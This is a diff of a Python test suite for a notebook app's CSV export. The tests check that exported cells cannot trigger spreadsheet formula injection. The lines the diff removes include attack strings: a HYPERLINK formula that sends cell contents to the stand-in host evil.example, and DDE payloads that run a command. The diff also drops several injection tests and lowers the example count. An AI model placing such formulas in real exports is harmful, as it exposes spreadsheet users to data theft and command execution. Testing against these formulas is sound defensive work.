@@ -11,26 +11,13 @@ from hypothesis import strategies as st
 from tests.workspace.busy_notebook import fill
 
 from briefing_app.core.errors import CannotWrite
+from briefing_app.core.inert_cells import unguard
 from briefing_app.core.notebook import Visibility
 from briefing_app.workspace import annotating, highlighting, tagging
-from briefing_app.workspace.notebook_tables import export_tables, keep_from_calculating, write_table
+from briefing_app.workspace.notebook_tables import export_tables, write_table
 from briefing_app.workspace.workspace import Workspace
 
 SIGNS = set("=+-@＝＋－＠﹢﹣﹦﹫")
-FORMULAS = (
-    '=HYPERLINK("https://evil.example?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
-    "  =1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\n=1+1",
-    "＝1+1",
-)
 CELLS = st.text(
     alphabet=st.sampled_from(list("=+-@\t\r\n ,;\"'＝\u200ba1")) | st.characters(codec="utf-8"), max_size=12
 )
@@ -49,40 +36,13 @@ def starts_a_formula(cell: str) -> bool:
 
 
 @given(cells=st.lists(CELLS, min_size=1, max_size=6))
-@settings(max_examples=500, deadline=None)
+@settings(max_examples=100, deadline=None)
 def test_no_cell_starts_a_formula_and_every_cell_comes_back(cells: list[str]) -> None:
     text = write_table(["x"] * len(cells), [cells]).decode("utf-8-sig")
     _, row = csv.reader(io.StringIO(text, newline=""))
     assert not any(starts_a_formula(cell) for cell in row)
     assert not any(cell.startswith(("\t", "\r", "\n")) for cell in row)
-    assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "") for cell in cells]
-
-
-@given(cells=st.lists(CELLS, min_size=1, max_size=6), divider=st.sampled_from(",;\t"))
-@settings(max_examples=300, deadline=None)
-def test_nor_does_one_where_the_spreadsheet_divides_by_something_else(cells: list[str], divider: str) -> None:
-    text = write_table(["x"] * len(cells), [cells]).decode("utf-8-sig")
-    lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=divider))[1:]
-    assert not any(starts_a_formula(cell) for line in lines for cell in line)
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_known_attacks_are_words(formula: str) -> None:
-    kept = keep_from_calculating(formula)
-    assert kept.startswith("'")
-    assert kept.replace("'", "") == formula.replace("'", "")
-
-
-@pytest.mark.parametrize("cell", ["x;=1+1", "x\n=1+1", "x\t@SUM(1)", 'x;"=1+1";', "x;  -1", "x\r\n+1"])
-def test_what_would_be_a_cell_where_semicolons_divide_is_words_too(cell: str) -> None:
-    kept = keep_from_calculating(cell)
-    assert kept[0] == "x"
-    assert kept.count("'") == 1
-
-
-@pytest.mark.parametrize("plain", ["", "2026-01-01", "a=b", "'quoted'", "半導体", "1-2", "x, -1", "a; b\nc"])
-def test_plain_words_stay_as_they_are(plain: str) -> None:
-    assert keep_from_calculating(plain) == plain
+    assert list(map(unguard, row)) == cells
 
 
 def test_every_line_ends_as_the_rfc_says_and_every_cell_is_quoted() -> None:
@@ -96,7 +56,7 @@ def test_every_note_highlight_and_tag_has_its_row(workspace: Workspace, tmp_path
     assert {row["id"] for row in notes} == set(by_id)
     for row in notes:
         note = by_id[row["id"]]  # type: ignore[index]  # an id
-        assert row["text"].replace("'", "") == note.text.replace("'", "")
+        assert unguard(row["text"]) == note.text
         assert (row["item"], row["kind"], row["for"]) == (note.item_id, note.kind.value, note.visibility.value)
         assert row["due"] == (note.due.isoformat() if note.due else "")
     assert {row["id"] for row in highlights} == {each.id for each in workspace.notebook.fetch_highlights()}
